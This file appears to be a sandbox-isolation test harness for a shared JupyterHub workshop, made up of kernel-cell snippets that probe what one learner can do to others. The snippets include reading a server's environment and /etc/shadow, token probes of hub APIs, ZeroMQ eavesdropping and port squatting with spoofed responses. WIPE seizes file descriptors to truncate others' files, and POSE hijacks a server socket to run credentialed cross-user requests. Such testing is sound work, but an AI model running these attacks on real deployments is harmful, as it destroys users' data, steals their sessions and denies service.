"""What a curious learner may try in a cell, as code for a kernel; it prints what came of it."""

# Defines `reach`: what the kernel can do to a home, and to a server's process.
REACH = """
import json, os
def outcome(act):
    try:
        act()
    except Exception as error:
        return type(error).__name__
    return "done"
def reach(home, number, sockets):
    def under(*parts):
        return os.path.join(home, *parts)
    lesson = under("lessons", "02_the_slip_criterion.ipynb")
    return {
        "list the home": outcome(lambda: os.listdir(home)),
        "list the lessons": outcome(lambda: os.listdir(under("lessons"))),
        "read a lesson": outcome(lambda: open(lesson).close()),
        "read the answers": outcome(lambda: open(under("lessons", "my_answers.jsonl")).close()),
        "write a lesson": outcome(lambda: open(lesson, "a").close()),
        "add a file": outcome(lambda: open(under("added"), "w").close()),
        "list the kernels' keys": outcome(lambda: os.listdir(sockets)),
        "read the server's variables": outcome(lambda: open(f"/proc/{number}/environ").read()),
        "signal the server": outcome(lambda: os.kill(number, 0)),
    }
"""

# Looks into the hub, and tries to change what all share. Needs REACH, learners, hub and shared.
SHARED = """
from pathlib import Path
shared = Path(shared)
files = [
    shared / "workshop_lib" / "slip.py", shared / ".venv" / "bin" / "activate",
    shared / "learner" / "00_start_here.ipynb",
]
packages = next(shared.glob(".venv/lib/python3*/site-packages"))
folders = [shared, shared / "workshop_lib", shared / "learner", shared / ".venv", packages]
acts = [lambda path=path: open(path, "a").close() for path in files]
acts += [lambda path=path: open(path / "added", "w").close() for path in folders]
acts += [lambda path=path: os.listdir(path) for path in (learners, hub, shared / "notebooks")]
acts += [lambda: open("/etc/shadow").close()]
print(json.dumps([outcome(act) for act in acts]))
"""

# Asks the hub and its proxy with the token of every kernel. Needs other, hub_port and proxy_port.
TOKEN = """
import json, os, urllib.error, urllib.request
def answers(url):
    token = os.environ["JUPYTERHUB_API_TOKEN"]
    request = urllib.request.Request(url, headers={"Authorization": f"token {token}"})
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code
hub, proxy = f"http://127.0.0.1:{hub_port}/hub/api", f"http://127.0.0.1:{proxy_port}/api"
urls = [f"{hub}/users/{other}", f"{hub}/users", f"{hub}/proxy", f"{proxy}/routes", f"{hub}/user"]
print(json.dumps([answers(url) for url in urls]))
"""

# Prints where this kernel publishes what its cells say.
OWN_ADDRESS = """
import json
from ipykernel.connect import get_connection_info
facts = json.loads(get_connection_info())
mark = "-" if facts["transport"] == "ipc" else ":"
print(json.dumps(f"{facts['transport']}://{facts['ip']}{mark}{facts['iopub_port']}"))
"""

# Defines `heard`, which listens at an address, and tries it on a speaker without secrets.
EAVESDROP = """
import json, threading, time, zmq
def heard(address, seconds=3):
    socket = zmq.Context.instance().socket(zmq.SUB)
    socket.subscribe("")
    socket.connect(address)
    end, parts = time.monotonic() + seconds, 0
    while time.monotonic() < end and not parts:
        parts += bool(socket.poll(100))
    socket.close(0)
    return parts
speaker = zmq.Context.instance().socket(zmq.PUB)
own_port = speaker.bind_to_random_port("tcp://127.0.0.1")
stop = threading.Event()
def speak():
    while not stop.wait(0.05):
        speaker.send(b"open talk")
    speaker.close(0)
talk = threading.Thread(target=speak, daemon=True)
talk.start()
control = heard(f"tcp://127.0.0.1:{own_port}")
stop.set()
talk.join()
"""

# Listens to the kernel's own talk at an address, which takes the address's place in the braces.
LISTEN = """
found = []
listener = threading.Thread(target=lambda: found.append(heard({!r})))
listener.start()
for _ in range(10):
    print("talk", flush=True)
    time.sleep(0.1)
listener.join()
"""

# Takes more memory than the limit, and tries to lift the limit.
GREEDY = """
import json, resource
try:
    greedy = bytearray(3_000_000_000)
except MemoryError:
    greedy = None
try:
    resource.setrlimit(resource.RLIMIT_DATA, (10**12, 10**12))
    lifted = True
except (ValueError, OSError):
    lifted = False
print(json.dumps([greedy is None, lifted]))
"""

# Takes every free port that it can from the moment when another learner's server begins to start,
# and answers at each with a page of its own. Needs uid, that learner's number.
TAKE_ALL = """
import contextlib, json, os, resource, selectors, socket, threading, time
def begins(uid, before):
    for folder in os.scandir("/proc"):
        with contextlib.suppress(OSError):
            if folder.name.isdigit() and folder.name not in before and folder.stat().st_uid == uid:
                return True
    return False
def take_all(uid, seconds):
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    before, end, listening = set(os.listdir("/proc")), time.monotonic() + seconds, []
    while not begins(uid, before) and time.monotonic() < end:
        time.sleep(0.001)
    for port in [*range(20000, 32000), *range(1, 1024)]:
        with contextlib.suppress(OSError):
            listening.append(socket.create_server(("127.0.0.1", port)))
    taken.extend(door.getsockname()[1] for door in listening)
    chosen = selectors.DefaultSelector()
    for door in listening:
        chosen.register(door, selectors.EVENT_READ)
    while time.monotonic() < end:
        for key, _ in chosen.select(0.2):
            with contextlib.suppress(OSError):
                visitor = key.fileobj.accept()[0]
                visitor.settimeout(1)
                heard.append(visitor.recv(9999).decode(errors="replace"))
                body = b"Ann was here: jupyter-config-data"
                head = b"HTTP/1.1 200 OK\\r\\nX-JupyterHub-Version: 6.1.0\\r\\n"
                visitor.sendall(head + b"Connection: close\\r\\n\\r\\n" + body)
                visitor.close()
    for door in listening:
        door.close()
taken, heard = [], []
attack = threading.Thread(target=take_all, args=(uid, 25), daemon=True)
attack.start()
"""

# Takes over what its server holds open, and empties others' files; prints names and owners.
# Needs server, its number.
WIPE = """
import ctypes, json, os
getfd = 438  # pidfd_getfd: its number in the system calls of all common machines
found = []
for number in (server, os.getpid()):
    for name in os.listdir(f"/proc/{number}/fd"):
        try:
            path = os.readlink(f"/proc/{number}/fd/{name}")
            taken = ctypes.CDLL(None).syscall(getfd, os.pidfd_open(number), int(name), 0)
            owner = os.fstat(taken).st_uid
            if os.path.isabs(path) and owner != os.getuid():
                os.write(taken, b"Nothing happened here.\\n")
                os.ftruncate(taken, 0)
            found.extend([[path, owner]] * os.path.isabs(path))
        except OSError:
            pass
print(json.dumps(found))
"""

# Opens so many connections to a port as it may, and leaves them idle. Needs port and most.
HOLD = """
import json, resource, socket
ends = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (ends[1], ends[1]))
held = []
try:
    while len(held) < most:
        held.append(socket.create_connection(("127.0.0.1", port), timeout=5))
except OSError:
    pass
print(json.dumps(len(held)))
"""

# Starts a process that leaves its session and its group, and prints its number.
STAY_BEHIND = """
import json, subprocess
left = subprocess.Popen(["sleep", "1234"], start_new_session=True)
print(json.dumps(left.pid))
"""

# A program of a learner: ends the own server, takes its open port over, and shows whoever comes a
# page that asks the hub in the visitor's name. Prints what that page found out. Arguments: the
# server's number, and the hub's address.
POSE = """
import ctypes, http.server, os, signal, socket, sys, time
number, hub = int(sys.argv[1]), sys.argv[2]
variables = open(f"/proc/{number}/environ").read().split("\\0")
door = next(int(each.partition("=")[2]) for each in variables if each.startswith("WORKSHOP_DOOR="))
getfd = 438  # pidfd_getfd: its number in the system calls of all common machines
taken = ctypes.CDLL(None).syscall(getfd, os.pidfd_open(number), door, 0)
os.kill(number, signal.SIGKILL)
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        tell = "text => fetch('told', {method: 'POST', body: text})"
        ask = f"fetch('{hub}/hub/home', {{credentials: 'include'}}).then(answer => answer.text())"
        self.wfile.write(f"<script>{ask}.catch(String).then({tell})</script>".encode())
    def do_POST(self):
        told = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(204)
        self.end_headers()
        found.extend([told] * self.path.endswith("/told"))
    def log_message(self, *_):
        pass
server = http.server.HTTPServer(("", 0), Page, bind_and_activate=False)
server.socket = socket.socket(fileno=taken)
server.socket.setblocking(True)
print("ready", flush=True)
found, end, server.timeout = [], time.monotonic() + 30, 1
while not found and time.monotonic() < end:
    server.handle_request()
print(repr(found), flush=True)
"""
